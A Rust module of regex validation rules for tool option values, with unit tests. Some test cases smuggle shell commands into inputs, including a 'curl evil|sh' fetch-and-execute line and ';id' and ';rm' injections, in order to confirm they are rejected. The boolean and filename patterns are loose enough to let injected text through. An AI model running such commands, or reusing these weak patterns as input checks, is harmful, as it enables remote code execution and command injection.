//! ValidationRule - option 値の検証パターン
//!
//! 各 rule は起動後に一度だけコンパイルされる regress パターンを持つ。
//! filename rule は lookahead を使うので regex crate ではなく regress。

use std::fmt;
use std::str::FromStr;
use std::sync::LazyLock;

use regress::Regex;
use serde::{Deserialize, Serialize};

use crate::domain::errors::SchemaError;

/// Validation rule declared for an option.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ValidationRule {
    Integer,
    Boolean,
    AlphaNumeric,
    AlphaNumericList,
    Filename,
    IpAddress,
}

const INTEGER: &str = r"^\d+$";
const BOOLEAN: &str = r"true|false";
const ALPHA_NUMERIC: &str = r"^[a-zA-Z0-9_]*$";
const ALPHA_NUMERIC_LIST: &str = r"^[a-zA-Z0-9_,?.\-]*$";
const FILENAME: &str = r"\.(?!/)";

fn compile(pattern: &str) -> Regex {
    Regex::new(pattern).unwrap_or_else(|e| panic!("invalid built-in pattern {pattern}: {e}"))
}

/// Dotted quad with 0-255 octets, or any textual IPv6 form.
fn ip_address_pattern() -> String {
    let oct = r"(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)";
    let v4 = format!(r"{oct}(?:\.{oct}){{3}}");
    let h = "[0-9A-Fa-f]{1,4}";
    let v6 = [
        format!("(?:{h}:){{7}}(?:{h}|:)"),
        format!("(?:{h}:){{6}}(?::{h}|{v4}|:)"),
        format!("(?:{h}:){{5}}(?:(?::{h}){{1,2}}|:{v4}|:)"),
        format!("(?:{h}:){{4}}(?:(?::{h}){{1,3}}|(?::{h})?:{v4}|:)"),
        format!("(?:{h}:){{3}}(?:(?::{h}){{1,4}}|(?::{h}){{0,2}}:{v4}|:)"),
        format!("(?:{h}:){{2}}(?:(?::{h}){{1,5}}|(?::{h}){{0,3}}:{v4}|:)"),
        format!("(?:{h}:)(?:(?::{h}){{1,6}}|(?::{h}){{0,4}}:{v4}|:)"),
        format!(":(?:(?::{h}){{1,7}}|(?::{h}){{0,5}}:{v4}|:)"),
    ]
    .join("|");
    format!(r"^(?:\s*(?:{v6})(?:%[0-9A-Za-z_.-]+)?\s*|{v4})$")
}

static INTEGER_RE: LazyLock<Regex> = LazyLock::new(|| compile(INTEGER));
static BOOLEAN_RE: LazyLock<Regex> = LazyLock::new(|| compile(BOOLEAN));
static ALPHA_NUMERIC_RE: LazyLock<Regex> = LazyLock::new(|| compile(ALPHA_NUMERIC));
static ALPHA_NUMERIC_LIST_RE: LazyLock<Regex> = LazyLock::new(|| compile(ALPHA_NUMERIC_LIST));
static FILENAME_RE: LazyLock<Regex> = LazyLock::new(|| compile(FILENAME));
static IP_ADDRESS_RE: LazyLock<Regex> = LazyLock::new(|| compile(&ip_address_pattern()));

impl ValidationRule {
    pub const ALL: [ValidationRule; 6] = [
        ValidationRule::Integer,
        ValidationRule::Boolean,
        ValidationRule::AlphaNumeric,
        ValidationRule::AlphaNumericList,
        ValidationRule::Filename,
        ValidationRule::IpAddress,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            ValidationRule::Integer => "integer",
            ValidationRule::Boolean => "boolean",
            ValidationRule::AlphaNumeric => "alpha_numeric",
            ValidationRule::AlphaNumericList => "alpha_numeric_list",
            ValidationRule::Filename => "filename",
            ValidationRule::IpAddress => "ip_address",
        }
    }

    /// Human readable description, used in task log lines.
    pub fn describe(&self) -> &'static str {
        match self {
            ValidationRule::Integer => "an integer",
            ValidationRule::Boolean => "a boolean",
            ValidationRule::AlphaNumeric => "an alpha-numeric string",
            ValidationRule::AlphaNumericList => "an alpha-numeric list",
            ValidationRule::Filename => "a filename",
            ValidationRule::IpAddress => "an IP address",
        }
    }

    fn regex(&self) -> &'static Regex {
        match self {
            ValidationRule::Integer => &INTEGER_RE,
            ValidationRule::Boolean => &BOOLEAN_RE,
            ValidationRule::AlphaNumeric => &ALPHA_NUMERIC_RE,
            ValidationRule::AlphaNumericList => &ALPHA_NUMERIC_LIST_RE,
            ValidationRule::Filename => &FILENAME_RE,
            ValidationRule::IpAddress => &IP_ADDRESS_RE,
        }
    }

    /// パターンが値のどこかにマッチすれば true（アンカーはパターン側で指定）
    pub fn matches(&self, value: &str) -> bool {
        self.regex().find(value).is_some()
    }
}

impl fmt::Display for ValidationRule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for ValidationRule {
    type Err = SchemaError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Self::ALL
            .into_iter()
            .find(|rule| rule.as_str() == s)
            .ok_or_else(|| SchemaError::UnknownRule(s.to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rstest::rstest;

    #[test]
    fn all_patterns_compile() {
        for rule in ValidationRule::ALL {
            let _ = rule.regex();
        }
    }

    #[test]
    fn tags_round_trip_through_from_str() {
        for rule in ValidationRule::ALL {
            assert_eq!(rule.as_str().parse::<ValidationRule>().unwrap(), rule);
        }
    }

    #[rstest]
    #[case::digits("42", true)]
    #[case::zero("0", true)]
    #[case::empty("", false)]
    #[case::negative("-1", false)]
    #[case::decimal("4.2", false)]
    #[case::trailing_text("42abc", false)]
    fn integer_rule(#[case] value: &str, #[case] expected: bool) {
        assert_eq!(ValidationRule::Integer.matches(value), expected);
    }

    #[rstest]
    #[case::true_literal("true", true)]
    #[case::false_literal("false", true)]
    #[case::embedded("istrue", true)]
    #[case::upper("TRUE", false)]
    #[case::yes("yes", false)]
    fn boolean_rule(#[case] value: &str, #[case] expected: bool) {
        assert_eq!(ValidationRule::Boolean.matches(value), expected);
    }

    #[rstest]
    #[case::word("abc_123", true)]
    #[case::empty("", true)]
    #[case::semicolon("abc;rm", false)]
    #[case::space("a b", false)]
    #[case::comma("a,b", false)]
    fn alpha_numeric_rule(#[case] value: &str, #[case] expected: bool) {
        assert_eq!(ValidationRule::AlphaNumeric.matches(value), expected);
    }

    #[rstest]
    #[case::resolvers("8.8.8.8,1.1.1.1", true)]
    #[case::punctuation("a-b?c.d_e", true)]
    #[case::semicolon("8.8.8.8;id", false)]
    #[case::slash("a/b", false)]
    #[case::space("a, b", false)]
    fn alpha_numeric_list_rule(#[case] value: &str, #[case] expected: bool) {
        assert_eq!(ValidationRule::AlphaNumericList.matches(value), expected);
    }

    #[rstest]
    #[case::simple("wordlist.txt", true)]
    #[case::nested("data/ports.csv", true)]
    #[case::no_period("wordlist", false)]
    #[case::only_dot_slash("./", false)]
    #[case::dot_slash_then_ext("./list.txt", true)]
    fn filename_rule(#[case] value: &str, #[case] expected: bool) {
        assert_eq!(ValidationRule::Filename.matches(value), expected);
    }

    #[rstest]
    #[case::v4("192.168.0.1", true)]
    #[case::v4_edges("255.0.0.255", true)]
    #[case::v6_full("2001:0db8:0000:0000:0000:ff00:0042:8329", true)]
    #[case::v6_compressed("2001:db8::1", true)]
    #[case::v6_loopback("::1", true)]
    #[case::v6_mapped("::ffff:192.0.2.1", true)]
    #[case::v6_zone("fe80::1%eth0", true)]
    #[case::v6_zone_with_command("fe80::1%eth0 && curl evil|sh", false)]
    #[case::v6_zone_with_pipe("fe80::1%eth0|sh", false)]
    #[case::v6_empty_zone("fe80::1%", false)]
    #[case::v4_octet_too_large("256.1.1.1", false)]
    #[case::v4_short("1.2.3", false)]
    #[case::hostname("example.com", false)]
    #[case::v6_bad_group("2001:db8::zzzz", false)]
    #[case::v4_trailing("1.1.1.1; id", false)]
    fn ip_address_rule(#[case] value: &str, #[case] expected: bool) {
        assert_eq!(ValidationRule::IpAddress.matches(value), expected);
    }
}
